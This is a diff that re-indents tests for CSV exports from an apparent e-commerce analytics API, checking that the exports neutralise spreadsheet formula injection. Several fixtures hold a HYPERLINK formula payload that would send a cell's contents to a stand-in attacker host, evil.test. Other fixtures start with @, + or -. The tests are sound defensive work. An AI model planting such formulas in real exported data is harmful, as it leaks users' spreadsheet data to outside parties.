@@ -55,38 +55,38 @@ describe.each(ENGINES)('CSV answers on %s neutralise cells a spreadsheet would r
     return res.text();
   };
 
-    it('an analysis: the product name is quoted text, the negative units_delta stays a number', async () => {
-      const name = `"'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")"`;
-      expect(await csv(`/v1/funnels/quantity?${RANGE}&group=product&format=csv`)).toBe(
-        'product,name,direction,lines,units_delta,purchased,purchase_rate\n' +
-          `P1,${name},increased,0,0,0,\n` +
-          `P1,${name},decreased,1,-4,0,0\n` +
-          `P1,${name},unchanged,0,0,0,\n` +
-          `P1,${name},removed,0,0,0,\n`,
-      );
-    });
+  it('an analysis: the product name is quoted text, the negative units_delta stays a number', async () => {
+    const name = `"'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")"`;
+    expect(await csv(`/v1/funnels/quantity?${RANGE}&group=product&format=csv`)).toBe(
+      'product,name,direction,lines,units_delta,purchased,purchase_rate\n' +
+        `P1,${name},increased,0,0,0,\n` +
+        `P1,${name},decreased,1,-4,0,0\n` +
+        `P1,${name},unchanged,0,0,0,\n` +
+        `P1,${name},removed,0,0,0,\n`,
+    );
+  });
 
-    it('an analysis grouped by category: the category is quoted text', async () => {
-      const text = await csv(`/v1/funnels/quantity?${RANGE}&group=category&format=csv`);
-      expect(text.split('\n')[2]).toBe("'@tools,decreased,1,-4,0,0");
-    });
+  it('an analysis grouped by category: the category is quoted text', async () => {
+    const text = await csv(`/v1/funnels/quantity?${RANGE}&group=category&format=csv`);
+    expect(text.split('\n')[2]).toBe("'@tools,decreased,1,-4,0,0");
+  });
 
-    it('the audience: the cart id and the lines naming the product are quoted text', async () => {
-      const name = `'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")`;
-      expect(await csv(`/v1/audiences/abandoned-carts?as_of=${AS_OF}&format=csv`)).toBe(
-        'cart_id,customer_id,anonymous_id,stage,value_minor,currency,items,units,channel,campaign,consent_marketing,started_at,last_activity_at,checkout_started_at,abandoned_at,lines,product_ids,product_names,quantities,line_values_minor\n' +
-          `'-2+3,c1,anon-b,cart,1000,EUR,1,1,web,,1,2026-03-02T10:00:00.000Z,2026-03-02T10:05:00.000Z,,2026-03-03T10:05:00.000Z,"${name} × 1 = 10.00 EUR",P1,"${name}",1,1000\n`,
-      );
-    });
+  it('the audience: the cart id and the lines naming the product are quoted text', async () => {
+    const name = `'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")`;
+    expect(await csv(`/v1/audiences/abandoned-carts?as_of=${AS_OF}&format=csv`)).toBe(
+      'cart_id,customer_id,anonymous_id,stage,value_minor,currency,items,units,channel,campaign,consent_marketing,started_at,last_activity_at,checkout_started_at,abandoned_at,lines,product_ids,product_names,quantities,line_values_minor\n' +
+        `'-2+3,c1,anon-b,cart,1000,EUR,1,1,web,,1,2026-03-02T10:00:00.000Z,2026-03-02T10:05:00.000Z,,2026-03-03T10:05:00.000Z,"${name} × 1 = 10.00 EUR",P1,"${name}",1,1000\n`,
+    );
+  });
 
-    it('POST /v1/sql: text columns neutralised, numeric columns (even negative, even as text beyond 2^53) untouched', async () => {
-      const text = await csv('/v1/sql?format=csv', {
-        method: 'POST',
-        headers: { 'content-type': 'application/json' },
-        body: JSON.stringify({
-          query,
-        }),
-      });
-      expect(text).toBe(`cart_id,name,n,big,f,plus,tab,ok\n'-2+3,"'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")",-5,-9007199254740993,-1.5,'+1,'\tx,safe\n`);
+  it('POST /v1/sql: text columns neutralised, numeric columns (even negative, even as text beyond 2^53) untouched', async () => {
+    const text = await csv('/v1/sql?format=csv', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({
+        query,
+      }),
     });
+    expect(text).toBe(`cart_id,name,n,big,f,plus,tab,ok\n'-2+3,"'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")",-5,-9007199254740993,-1.5,'+1,'\tx,safe\n`);
+  });
 });
